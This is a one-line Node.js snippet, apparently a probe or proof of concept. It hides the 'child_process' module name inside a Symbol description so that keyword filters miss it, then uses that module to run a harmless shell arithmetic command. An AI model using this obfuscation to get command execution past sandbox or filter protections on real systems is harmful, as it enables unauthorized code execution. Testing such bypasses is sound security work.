require(Symbol('child_process').description).execSync('expr 40 + 1001',{stdio:'inherit'});
